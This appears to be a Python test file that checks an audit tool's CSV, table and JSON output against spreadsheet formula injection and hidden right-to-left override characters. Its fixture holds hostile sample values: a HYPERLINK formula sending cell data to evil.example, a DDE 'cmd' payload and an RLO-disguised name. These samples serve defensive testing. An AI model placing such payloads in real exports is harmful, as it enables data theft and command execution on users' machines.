"""`audit` output for people: CSV cells a spreadsheet shows as text, and no name that hides characters."""

import csv
import io
import json

from helpers import hand_built_run, recorded_decision
from hypothesis import given
from hypothesis import strategies as st

from backlog_alerts.ascii_text import visible
from backlog_alerts.trail.audit_formats import FORMULA_START, csv_cell, render, render_run

RLO = "\u202e"


@given(st.text())
def test_no_text_cell_begins_like_a_formula(text):
    cell, shown = csv_cell(text), visible(text)
    assert not cell.startswith(FORMULA_START)
    assert cell in (shown, "'" + shown)  # the text itself is kept, marked as text at most


def test_numbers_we_wrote_are_left_as_numbers():
    assert csv_cell(3) == 3 and csv_cell(0) == 0 and csv_cell(None) is None


def tampered_run():
    alerts = [
        recorded_decision('=HYPERLINK("https://evil.example/?x="&A1,"open")', "streets", "publish", "m-1"),
        recorded_decision(f"pot{RLO}selo", "parks", "quiet", count="=1+1"),  # a count that is not ours
        recorded_decision("@SUM(A1)", "parks", "quiet", error="-2+3"),
    ]
    return hand_built_run(alerts=alerts, error="+cmd|' /C calc'!A0")


def test_the_csv_of_a_tampered_trail_holds_no_formula_and_shows_hidden_characters():
    for per in ("run", "alert"):
        text = render([tampered_run()], "csv", per=per)
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_START)], per
        assert RLO not in text
    rows = list(csv.DictReader(io.StringIO(render([tampered_run()], "csv", per="alert"))))
    assert rows[0]["rule"].startswith("'=HYPERLINK(")
    assert rows[1]["rule"] == "pot<U+202E>selo" and rows[1]["count"] == "'=1+1"


def test_the_table_shows_hidden_characters_and_keeps_each_run_on_its_line():
    run = tampered_run()
    run["manifest"]["error"] = f"bad{RLO}\nforged line"
    run["manifest"]["status"] = "failed"
    table = render([run], "table")
    runs = table.split("\n\n")[0].splitlines()
    starts = [line for line in runs if not line.startswith(" ")]
    assert len(starts) == 2  # the header and one run; its details wrapped, indented, below it
    details = " ".join(line.strip() for line in runs[1:])
    assert RLO not in table and "bad<U+202E><U+000A>forged line" in details
    assert max(len(line) for line in table.splitlines()) <= 120
    assert RLO not in render_run(run | {"not_read": []}, "table")


def test_json_keeps_hidden_characters_as_its_own_escapes():
    data = render([tampered_run()], "json", not_read=["not read: x: y"])
    assert RLO not in data and "\\u202e" in data
    assert json.loads(data)["runs"][0]["alerts"][1]["rule"] == f"pot{RLO}selo"
    assert json.loads(data)["not_read"] == ["not read: x: y"]
